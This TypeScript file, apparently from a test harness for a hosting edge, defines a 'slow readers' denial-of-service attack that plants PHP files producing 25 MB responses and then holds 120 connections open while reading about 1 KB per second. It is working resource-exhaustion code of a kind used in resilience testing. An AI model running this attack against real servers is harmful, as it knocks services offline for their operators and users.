import type { Attack, Target } from './attack.ts'
import { hostileSocket, keepOpen, pause, siteOf, untilClosed } from './hostile.ts'

/** A page of 25 MB. */
const page = `<?php for ($n = 0; $n < 25; $n++) { echo str_repeat('x', 1 << 20); }`
/** Creates a file of 25 MB next to itself. */
const maker = `<?php
if (!file_exists(__DIR__ . '/large.bin')) file_put_contents(__DIR__ . '/large.bin', str_repeat('x', 25 << 20));`

const site = 6

export const slowReaders: Attack = {
  name: 'slow readers',
  connections: 120,
  files: (of) => (of === site ? { 'large.php': page, 'make.php': maker } : undefined),
  async run(target, signal) {
    await readSlowly(target, '/make.php', 0, signal, 1)
    await keepOpen(120, signal, (n) => readSlowly(target, n % 2 ? `/large.php?n=${n}` : `/large.bin?n=${n}`, n, signal))
  },
}

/** Sends a request, and then reads almost nothing of the response. */
async function readSlowly(
  target: Target,
  path: string,
  n: number,
  signal: AbortSignal,
  mostSeconds = 120,
): Promise<void> {
  const socket = await hostileSocket(target, n, signal)
  socket.write(`GET ${path} HTTP/1.1\r\nhost: ${siteOf(target, site)}:${target.edgePort}\r\n\r\n`)
  socket.pause()
  for (let second = 0; second < mostSeconds && !socket.destroyed; second++) {
    await pause(1000, signal)
    socket.read(1024)
  }
  socket.destroy()
  await untilClosed(socket)
}
